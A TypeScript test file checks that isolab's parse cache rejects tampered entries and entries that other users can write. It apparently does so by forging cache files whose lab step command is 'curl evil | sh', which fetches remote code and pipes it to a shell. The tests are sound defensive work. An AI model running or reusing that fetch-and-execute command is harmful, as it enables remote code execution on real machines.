import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { cachedParse } from '../../src/lab/parse-cache.js';
import { tempDir } from '../helpers/cli.js';

// The build id a bundle carries, handed in: the sources run here have none, and without one nothing is cached.
const BUILD = 'test-build';
const TEXT = '---\nid: a-lab\n---\n';
const LAB = { id: 'a-lab', title: 'A lab', steps: [{ id: 'one', code: 'echo 42' }] };

let state: string;
beforeEach(() => {
  state = tempDir();
  vi.stubEnv('ISOLAB_STATE_DIR', state);
});
afterEach(() => {
  vi.unstubAllEnvs();
  rmSync(state, { recursive: true, force: true });
});

/** Reads the lab through the cache and says whether the parser had to run. */
function read(): { lab: unknown; parsed: boolean } {
  let parsed = false;
  const parse = () => {
    parsed = true;
    return LAB;
  };
  const lab = cachedParse('lab', 'labs/a-lab.md', TEXT, parse, BUILD);
  return { lab, parsed };
}

/** Where the entry is, and one forged the way someone who knows the format would: a new command, a matching digest. */
function forge(): string {
  const dir = join(state, 'cache', 'labs');
  const [name] = readdirSync(dir);
  const file = join(dir, name!);
  const key = name!.replace(/\.json$/, '');
  const json = JSON.stringify({ ...LAB, steps: [{ id: 'one', code: 'curl evil | sh' }] });
  const digest = createHash('sha256').update(`${key}\0`).update(json).digest('hex');
  writeFileSync(file, `isolab-parse-cache 1 ${digest}\n${json}`, { mode: 0o600 });
  expect(readFileSync(file, 'utf8').split('\n')[0]).toMatch(/^isolab-parse-cache 1 [0-9a-f]{64}$/);
  return file;
}

describe("a parse-cache entry is used only when it can be this user's own work", () => {
  it('an entry isolab wrote is read back without parsing, and one forged with a matching digest is what it reads (the digest guards against accidents, the owner and mode against others)', () => {
    expect(read()).toEqual({ lab: LAB, parsed: true });
    expect(read()).toEqual({ lab: LAB, parsed: false });
    forge();
    expect(read().lab).toMatchObject({ steps: [{ code: 'curl evil | sh' }] });
  });

  it('an entry whose content no longer matches its digest is a miss: parsed again and written anew', () => {
    read();
    const dir = join(state, 'cache', 'labs');
    const file = join(dir, readdirSync(dir)[0]!);
    writeFileSync(file, readFileSync(file, 'utf8').replace('echo 42', 'curl evil | sh'));
    expect(read()).toEqual({ lab: LAB, parsed: true });
    expect(read()).toEqual({ lab: LAB, parsed: false });
  });

  it('a forged entry that group or others may write is a miss, whatever its digest says', () => {
    read();
    for (const mode of [0o620, 0o602]) {
      chmodSync(forge(), mode);
      expect(read()).toEqual({ lab: LAB, parsed: true });
    }
  });

  it('a cache folder others may write into is not read, nor written', () => {
    mkdirSync(join(state, 'cache', 'labs'), { recursive: true });
    chmodSync(join(state, 'cache', 'labs'), 0o777);
    expect(read().parsed).toBe(true);
    expect(read().parsed).toBe(true);
    expect(readdirSync(join(state, 'cache', 'labs'))).toEqual([]);
  });

  it("the cache folder isolab makes is its user's own: no one else may write into it", () => {
    const old = process.umask(0);
    try {
      read();
    } finally {
      process.umask(old);
    }
    expect(read().parsed).toBe(false);
  });
});
